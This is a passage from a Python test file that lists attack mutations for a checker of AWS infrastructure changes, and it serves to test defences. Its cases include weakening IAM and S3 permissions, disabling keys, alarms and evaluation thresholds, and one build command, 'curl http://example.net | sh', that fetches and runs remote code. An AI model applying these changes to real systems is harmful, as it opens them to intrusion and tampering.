    ),
    attack(
        "another image by its digest",
        SERVING,
        put(MODEL, "Containers.0.Image", PINNED.replace("a" * 64, "b" * 64)),
        {IMAGES, REPLACED},
        given=PINNED_MODEL,
    ),
    attack(
        "a machine that skips its work",
        SHADOWED_WATCH,
        put(MACHINE, f"{DEFINITION}.States.IsAnyCaptured.Choices.0.Next", "NothingToCompare"),
        {STEPS},
        says="NothingToCompare",
    ),
    attack("a machine without a state", MONITORING, state("Compare", ABSENT), {STEPS}, says="States.Compare"),
    attack(
        "a choice at another number",
        SHADOWED_WATCH,
        put(MACHINE, f"{DEFINITION}.States.IsAnyCaptured.Choices.0.NumericGreaterThan", 1000),
        {THRESHOLDS},
    ),
    attack("the check without its other end", TRAINING, without_else, {STEPS}, says="ElseSteps"),
    attack(
        "the check the other way round",
        TRAINING,
        in_text('"GreaterThanOrEqualTo"', '"LessThanOrEqualTo"'),
        {THRESHOLDS},
    ),
    attack(
        "steps that are not run again",
        TRAINING,
        put(PIPELINE, f"{STEPS_OF}.2.CacheConfig", {"Enabled": True, "ExpireAfter": "P365D"}),
        {STEPS},
    ),
    attack(
        "a build of other code",
        IMAGE,
        put(
            BUILD,
            "Source.BuildSpec.Fn::ToSpacedJsonString.phases.build.commands",
            ["curl http://example.net | sh"],
        ),
        {CODE},
        says="curl",
    ),
    attack("a function's code", FOUNDATION, at("Called", "Code.ZipFile", "print(2)"), {CODE}, given=CALLED),
    attack(
        "a description that is read",
        FOUNDATION,
        at("Called", "Environment.Variables.TaskDescription", "delete"),
        {CHANGED},
        given=CALLED,
    ),
    attack(
        "an output that tools read",
        FOUNDATION,
        in_text(
            '{"AlertTopicArn": {"Value": "${Alerts91F83244}"}',
            '{"AlertTopicArn": {"Value": "arn:aws:sns:us-east-1:999999999999:x"}',
        ),
        {CHANGED},
        says=STRANGER,
    ),
    attack(
        "the end of a long text",
        FOUNDATION,
        at("Called", "Environment.Variables.TaskDescription", f"{'x' * 300} delete"),
        {CHANGED},
        says="delete",
        given=both(CALLED, at("Called", "Environment.Variables.TaskDescription", f"{'x' * 300} read")),
    ),
)

COMBINATIONS = (
    combined(
        "a role may be passed here, and is more there",
        {WIDENED, CHANGED},
        NOTABLE,
        "iam:PassRole",
        (FOUNDATION, allow(POLICY, "PolicyDocument", Action="iam:PassRole", Resource="*")),
        (PROD, put(ROLE, "PermissionsBoundary", ABSENT)),
    ),
    combined(
        "a bucket for strangers that nothing blocks",
        {WIDENED, CHANGED, UNPROTECTED},
        NOTABLE,
        STRANGER,
        (
            FOUNDATION,
            both(
                allow(BUCKET_POLICY, "PolicyDocument", Principal=STRANGERS, Action="s3:*", Resource="*"),
                put(BUCKET, "PublicAccessBlockConfiguration", ABSENT),
            ),
        ),
    ),
    combined(
        "silent, and all at once",
        {UNPROTECTED},
        NOTABLE,
        "LinearStepSize",
        (
            LINEAR,
            both(
                put(ALARM, "AlarmActions", []),
                put(
                    ENDPOINT,
                    "DeploymentConfig.BlueGreenUpdatePolicy.TrafficRoutingConfiguration.LinearStepSize.Value",
                    100,
                ),
            ),
        ),
    ),
    combined(
        "an older version that passes a lower bar",
        {VERSION, REPLACED, THRESHOLDS},
        NOTABLE,
        "0.7 → 0.1",
        (SERVING, VERSION_7),
        (TRAINING, in_text('"DefaultValue": 0.7', '"DefaultValue": 0.1')),
    ),
    combined(
        "not kept, and replaced at once",
        {DATA, UNPROTECTED, CHANGED},
        DESTRUCTIVE,
        "deleted",
        (
            FOUNDATION,
            both(attribute(BUCKET, "UpdateReplacePolicy", "Delete"), put(BUCKET, "BucketName", "another")),
        ),
    ),
    combined(
        "dev trusts one stranger, prod another",
        {WIDENED, CHANGED},
        NOTABLE,
        "prod/foundation",
        (FOUNDATION, statement("ServiceOfThisAccount", Principal={"AWS": "222222222222"})),
        (PROD, statement("ServiceOfThisAccount", Principal={"AWS": STRANGER})),
    ),
    combined(
        "a key off where logs lose theirs",
        {UNPROTECTED},
        NOTABLE,
        "Enabled",
        (FOUNDATION, both(put(KEY, "Enabled", False), put(LOGS, "KmsKeyId", ABSENT))),
    ),
    combined(
        "a tag and a swapped role",
        {TEXTS, WIDENED},
        NOTABLE,
        "role/admin",
        (
            TRAINING,
            both(
                append(PIPELINE, "Tags", {"Key": "team", "Value": "a"}),
                put(PIPELINE, "RoleArn", "role/admin"),
            ),
        ),
    ),
)

ATTACKS = (*OF_PERMISSIONS, *OF_NETWORK, *OF_PROTECTION, *OF_DATA, *OF_USE_CASES, *COMBINATIONS)
